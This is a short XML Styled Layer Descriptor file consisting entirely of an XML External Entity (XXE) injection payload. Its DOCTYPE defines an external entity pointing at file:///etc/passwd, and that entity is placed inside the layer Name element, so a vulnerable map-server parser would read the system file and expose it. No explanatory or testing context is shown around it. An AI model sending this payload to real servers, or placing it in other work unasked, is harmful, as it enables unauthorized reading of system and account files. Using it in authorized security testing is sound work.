<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE sld [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<StyledLayerDescriptor version="1.0.0" xmlns="http://www.opengis.net/sld">
  <NamedLayer><Name>&xxe;</Name></NamedLayer>
</StyledLayerDescriptor>
